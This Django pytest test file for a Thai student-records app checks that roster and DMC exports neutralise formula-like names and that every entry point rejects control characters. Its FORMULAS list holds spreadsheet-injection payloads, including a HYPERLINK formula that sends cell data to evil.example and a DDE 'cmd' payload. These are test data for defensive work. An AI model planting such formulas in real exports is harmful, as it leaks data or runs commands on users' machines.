"""Exports that no spreadsheet turns into a formula, and names that never hold control
characters, whatever way they come in (page, API, import)."""

from __future__ import annotations

import csv
import io
import zipfile

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client

from qinfo import text
from students import exporting
from students.models import Guardian, Student
from students.services import imports as import_services

from .data import make_samples as samples
from .data.make_samples import DMC_HEADERS

FORMULAS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"คลิก")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
)


@pytest.fixture(autouse=True)
def _media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"


def client_for(world, persona: str) -> Client:
    client = Client()
    client.force_login(world.user(persona))
    return client


def hostile_names(world, first: str, last: str) -> None:
    """As if stored before the checks existed: straight into the table, past every validator."""
    Student.objects.filter(pk=world.student_a.pk).update(first_name=first, last_name=last)
    Guardian.objects.filter(pk=world.guardian_a.pk).update(first_name=first, occupation=last)


def xlsx_cells(content: bytes) -> list[list]:
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    return [[cell for cell in row] for row in workbook.worksheets[0].iter_rows()]


def assert_xlsx_has_no_formula(content: bytes) -> None:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), name


EXPORTS = (
    ("roster page xlsx", lambda w: f"/classrooms/{w.class_a.code}/roster.xlsx"),
    ("roster page csv", lambda w: f"/classrooms/{w.class_a.code}/roster.csv"),
    ("roster api xlsx", lambda w: f"/api/v1/classrooms/{w.class_a.code}/roster/"),
    ("roster api csv", lambda w: f"/api/v1/classrooms/{w.class_a.code}/roster/?file_format=csv"),
    ("dmc page xlsx", lambda w: "/exports/dmc.xlsx"),
    ("dmc page csv", lambda w: "/exports/dmc.csv"),
    ("dmc api xlsx", lambda w: f"/api/v1/exports/dmc/?school={w.school_a.code}"),
    ("dmc api csv", lambda w: f"/api/v1/exports/dmc/?school={w.school_a.code}&file_format=csv"),
)


@pytest.mark.parametrize("formula", FORMULAS)
@pytest.mark.parametrize(("label", "url"), EXPORTS, ids=[label for label, _ in EXPORTS])
def test_every_export_writes_a_formula_like_name_as_inert_text(world, formula, label, url):
    hostile_names(world, formula, "ใจดี")
    response = client_for(world, "registrar").get(url(world))
    assert response.status_code == 200, label
    if "csv" in label:
        rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
        cells = [cell for row in rows for cell in row]
        assert not any(text.is_formula_like(cell) for cell in cells)
        expected = "'" + text.without_control_characters(formula)
        assert expected in cells
    else:
        assert_xlsx_has_no_formula(response.content)
        cells = [cell for row in xlsx_cells(response.content) for cell in row]
        hostile = [cell for cell in cells if cell.value == text.without_control_characters(formula)]
        assert hostile, label
        assert all(cell.data_type == "s" and cell.quotePrefix for cell in hostile)


@pytest.mark.parametrize(("label", "url"), EXPORTS, ids=[label for label, _ in EXPORTS])
def test_a_stored_control_character_does_not_break_an_export(world, label, url):
    hostile_names(world, "สม\x07ชาย\x08", "ใจ\x1bดี\nมาก")
    response = client_for(world, "registrar").get(url(world))
    assert response.status_code == 200, label
    if "csv" in label:
        body = response.content.decode("utf-8-sig")
        assert "สม ชาย " in body
        assert not any(text.has_control_characters(cell) for row in csv.reader(io.StringIO(body)) for cell in row)
    else:
        values = [str(cell.value or "") for row in xlsx_cells(response.content) for cell in row]
        assert "สม ชาย " in values
        assert not any(text.has_control_characters(value) for value in values)


def test_a_sheet_title_with_characters_excel_refuses_still_exports():
    content, _ = exporting.render("xlsx", ["ก"], [["ข"]], title="ม.1/1 [พิเศษ]: ห้อง*?")
    assert openpyxl.load_workbook(io.BytesIO(content)).worksheets[0].title == "ม.1-1 -พิเศษ-- ห้อง--"


def test_the_csv_writer_neutralises_each_formula_start():
    assert [text.csv_safe(value) for value in ("=1", "+1", "-1", "@a", "\t=1", "  =1", "สมชาย", "")] == [
        "'=1",
        "'+1",
        "'-1",
        "'@a",
        "'\t=1",
        "'  =1",
        "สมชาย",
        "",
    ]


# --- Entry points refuse control characters ------------------------------------------------


BAD_NAMES = ("สม\x07ชาย", "สม\tชาย", "สม\nชาย", "สม\x1bชาย", "สม\x85ชาย")


def student_payload(**overrides) -> dict:
    payload = {
        "student_number": "80001",
        "identifier": "",
        "prefix": "ด.ช.",
        "first_name": "ภาคิน",
        "last_name": "ศรีสุข",
        "sex": "M",
    }
    payload.update(overrides)
    return payload


@pytest.mark.parametrize("name", BAD_NAMES)
def test_the_api_refuses_a_name_with_a_control_character_naming_the_field(world, name):
    client = client_for(world, "registrar")
    response = client.post("/api/v1/students/", student_payload(first_name=name), content_type="application/json")
    assert response.status_code == 400, response.content
    assert "ชื่อมีอักขระควบคุม" in response.json()["errors"]["first_name"][0]
    assert not Student.objects.filter(student_number="80001").exists()
    response = client.patch(
        f"/api/v1/students/{world.student_a.code}/",
        {"last_name": name, "reason": "แก้ชื่อ"},
        content_type="application/json",
    )
    assert response.status_code == 400
    assert "นามสกุลมีอักขระควบคุม" in response.json()["errors"]["last_name"][0]


def test_the_student_form_refuses_a_control_character_beside_the_field(world):
    data = {**student_payload(last_name="ศรี\x07สุข"), "birth_date": "16/05/2556"}
    response = client_for(world, "registrar").post("/students/new/", data)
    assert response.status_code == 200
    assert "นามสกุลมีอักขระควบคุม" in " ".join(response.context["form"].errors["last_name"])
    assert not Student.objects.filter(student_number="80001").exists()


def test_the_guardian_form_refuses_a_control_character(world):
    response = client_for(world, "registrar").post(
        f"/students/{world.student_a.code}/guardians/new/",
        {"prefix": "นาย", "first_name": "สม\x0bชาย", "last_name": "ใจดี", "relationship": "father", "phone": ""},
    )
    assert response.status_code == 200
    assert "ชื่อมีอักขระควบคุม" in " ".join(response.context["form"].errors["first_name"])


def test_an_import_row_with_a_control_character_is_an_error_naming_the_row_and_column(world):
    rows = samples.dmc_rows(3)
    rows[1][DMC_HEADERS.index("ชื่อ")] = "สม\x07ชาย"
    rows[2][DMC_HEADERS.index("ชื่อบิดา")] = "บิดา\x01"
    data = samples.csv_bytes(DMC_HEADERS, rows, encoding="utf-8")
    job = import_services.import_preview(
        school=world.school_a,
        academic_year=world.class_a.academic_year,
        uploaded_file=SimpleUploadedFile("dmc.csv", data),
        by=world.user("registrar"),
    )
    found = {(error["row"], error["column"]) for error in job.errors}
    assert found == {(3, "ชื่อ"), (4, "ชื่อบิดา")}
    assert all("มีอักขระควบคุม" in error["message"] for error in job.errors)
    assert job.valid_rows == 1


def test_the_profile_service_refuses_control_characters_in_the_address_and_occupation(world):
    from django.core.exceptions import ValidationError

    from students.services import profile as profile_services

    with pytest.raises(ValidationError) as refused:
        profile_services.student_profile_update(
            student=world.student_a, data={"street": "สุขุมวิท\x07"}, by=world.user("registrar"), reason="แก้ที่อยู่"
        )
    assert "ถนน/ซอยมีอักขระควบคุม" in refused.value.message_dict["street"][0]
    with pytest.raises(ValidationError) as refused:
        profile_services.student_profile_update(
            student=world.student_a,
            data={},
            guardian_occupations={str(world.guardian_a.code): "ค้าขาย\x1b"},
            by=world.user("registrar"),
            reason="แก้อาชีพ",
        )
    assert "อาชีพมีอักขระควบคุม" in refused.value.message_dict[f"occupation_{world.guardian_a.code}"][0]
